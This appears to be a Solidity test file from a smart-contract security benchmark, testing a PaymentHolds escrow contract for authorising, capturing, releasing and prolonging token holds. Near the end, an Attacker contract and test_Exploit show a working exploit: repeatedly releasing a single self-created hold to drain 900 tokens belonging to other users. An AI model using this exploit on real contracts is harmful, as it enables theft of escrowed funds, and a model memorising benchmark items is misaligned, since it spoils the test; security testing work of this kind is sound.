// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./PaymentHolds.sol";

// assay-canary-32e78a78-42b7-4374-bcc5-9d32b49f62e8

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Euro is ERC20("Euro", "EUR") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker only");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant SHOP = address(0x540);
    uint256 private constant START = 1_700_000_000;

    Euro public euro;
    PaymentHolds private holds;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        euro = new Euro();
        holds = new PaymentHolds(euro);
        euro.mint(ANA, 1_000 ether);
        euro.mint(BEN, 1_000 ether);
        vm.startPrank(ANA);
        euro.approve(address(holds), 1_000 ether);
        holds.authorise(SHOP, 300 ether, 7 days);
        holds.authorise(SHOP, 200 ether, 7 days);
        vm.stopPrank();
        vm.startPrank(BEN);
        euro.approve(address(holds), 1_000 ether);
        holds.authorise(SHOP, 400 ether, 1 days);
        vm.stopPrank();
        mallory = new Attacker(holds, euro);
        euro.mint(address(mallory), 100 ether);
    }

    function test_Regular() public {
        require(holds.openHolds(ANA).length == 2 && holds.isOpen(3) && holds.holdOf(2).amount == 200 ether, "held");
        vm.startPrank(SHOP);
        holds.capture(1, 250 ether);
        require(euro.balanceOf(SHOP) == 250 ether && euro.balanceOf(ANA) == 550 ether, "captured");
        holds.release(2);
        vm.stopPrank();
        require(euro.balanceOf(ANA) == 750 ether && holds.openHolds(ANA).length == 0, "released");
        vm.prank(BEN);
        holds.prolong(3, 2 days);
        vm.warp(START + 2 days);
        vm.prank(SHOP);
        holds.capture(3, 0);
        require(euro.balanceOf(BEN) == 1_000 ether, "nothing taken");
        vm.startPrank(BEN);
        uint256 id = holds.authorise(SHOP, 10 ether, 1 hours);
        vm.warp(START + 2 days + 1 hours + 1);
        holds.release(id);
        vm.stopPrank();
        require(euro.balanceOf(BEN) == 1_000 ether && euro.balanceOf(address(holds)) == 0, "expired");
        require(!holds.isOpen(id) && holds.holdOf(id).payee == SHOP, "closed");
    }

    function test_RefusesTerms() public {
        vm.expectRevert(IPaymentHolds.NoToken.selector);
        new PaymentHolds(IERC20(address(0)));
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(IPaymentHolds.BadPayee.selector, address(0)));
        holds.authorise(address(0), 1, 1 days);
        vm.expectRevert(abi.encodeWithSelector(IPaymentHolds.BadAmount.selector, 0));
        holds.authorise(SHOP, 0, 1 days);
        vm.expectRevert(abi.encodeWithSelector(IPaymentHolds.BadTerm.selector, 1 hours - 1));
        holds.authorise(SHOP, 1, 1 hours - 1);
        vm.expectRevert(abi.encodeWithSelector(IPaymentHolds.BadTerm.selector, 30 days + 1));
        holds.authorise(SHOP, 1, 30 days + 1);
        vm.expectRevert(abi.encodeWithSelector(IPaymentHolds.BadTerm.selector, 1 hours - 1));
        holds.prolong(1, 1 hours - 1);
        vm.expectRevert(abi.encodeWithSelector(IPaymentHolds.BadTerm.selector, 30 days + 1));
        holds.prolong(1, 30 days + 1);
        vm.expectRevert(abi.encodeWithSelector(IPaymentHolds.StillHeld.selector, START + 7 days));
        holds.prolong(1, 7 days);
        vm.stopPrank();
        vm.prank(SHOP);
        vm.expectRevert(abi.encodeWithSelector(IPaymentHolds.NotPayer.selector, SHOP));
        holds.prolong(1, 8 days);
    }

    function test_RefusesParties() public {
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(IPaymentHolds.NotPayee.selector, BEN));
        holds.capture(1, 1);
        vm.warp(START + 8 days);
        vm.expectRevert(abi.encodeWithSelector(IPaymentHolds.NotPayer.selector, BEN));
        holds.release(1);
        vm.stopPrank();
    }

    function test_RefusesTimes() public {
        vm.warp(START + 7 days);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(IPaymentHolds.StillHeld.selector, START + 7 days));
        holds.release(1);
        vm.startPrank(SHOP);
        vm.expectRevert(abi.encodeWithSelector(IPaymentHolds.BadAmount.selector, 300 ether + 1));
        holds.capture(1, 300 ether + 1);
        vm.expectRevert(abi.encodeWithSelector(IPaymentHolds.Expired.selector, START + 1 days));
        holds.capture(3, 1);
        holds.capture(1, 300 ether);
        vm.expectRevert(abi.encodeWithSelector(IPaymentHolds.NotOpen.selector, 1));
        holds.capture(1, 300 ether);
        vm.stopPrank();
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(IPaymentHolds.NotOpen.selector, 1));
        holds.prolong(1, 30 days);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(euro.balanceOf(address(mallory)) == 1_000 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(holds);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    PaymentHolds private holds;

    constructor(PaymentHolds h, IERC20 token) {
        holds = h;
        token.approve(address(h), type(uint256).max);
    }

    function run() external {
        uint256 id = holds.authorise(address(this), 100 ether, 1 days);
        for (uint256 i = 0; i < 10; i++) {
            holds.release(id);
        }
    }
}
